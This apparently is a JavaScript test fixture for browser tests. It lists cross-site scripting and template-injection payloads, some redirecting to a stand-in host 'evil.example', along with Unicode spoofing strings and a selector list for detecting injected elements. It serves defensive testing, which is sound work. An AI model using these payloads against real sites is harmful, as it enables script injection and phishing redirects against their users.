// What strangers write when they want a page to do something for them, or to fall apart.

/** Markup, attributes, URLs and templates. Pages show each of them letter by letter. */
export const VECTORS = [
  `<script>alert(1)</script>`,
  `"><img src=x onerror=alert(2)>`,
  `'><svg/onload=alert(3)>`,
  `</textarea><script>alert(4)</script>`,
  `</title></style></noscript><script>alert(5)</script>`,
  `" autofocus onfocus=alert(6) x="`,
  `' onmouseover='alert(7)`,
  `javascript:alert(8)//`,
  `JaVaScRiPt&colon;alert(9)`,
  `data:text/html,<script>alert(10)</script>`,
  `{{7*7}}\${7*7}<%= 7*7 %>#{7*7}`,
  `{% include "base.html" %}{{ frame|safe }}`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=alert(13)>#x">`,
  `<iframe srcdoc="<script>alert(14)</script>">`,
  `<base href="https://evil.example/"><form action="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `]]><!--><script>alert(17)</script>-->`,
  `<math><mtext><table><mglyph><style><img src onerror=alert(18)>`,
  `&lt;script&gt;alert(19)&lt;/script&gt;&amp;amp;`,
  `<a href=javascript:alert(20) style=position:fixed>click</a>`,
];

/** Characters that hide, turn or pile up, with the code point by which pages name the first of them. None if it is not hidden. */
export const ODD = [
  ["\u202Egpj.exe\u202C", "U+202E"],
  ["pass\u2066word\u2069", "U+2066"],
  ["vi\u200Bag\u2060ra", "U+200B"],
  ["line\u2028alert(21)\u2029line", "U+2028"],
  [`Z${"\u0301".repeat(60)}algo`, null],
];

/** A word that is wider than any window. */
export const LONG = "x".repeat(100_000);

/** What no page has but for an attack that worked. */
const INJECTED = [
  "script:not([src^='/assets/'])", "img", "iframe", "object", "embed", "base", "meta[http-equiv]", "style", "math", "a[href^='javascript' i]",
  "a[href^='data' i]", "[style]", "[onload]", "[onerror]", "[onfocus]", "[onmouseover]", "[srcdoc]", "form[action^='http']", "use:not([href^='/assets/'])",
].join();

/** The elements of a page that an attack has put there. */
export const injected = (page) => page.locator(INJECTED).evaluateAll((all) => all.map((one) => one.outerHTML.slice(0, 200)));
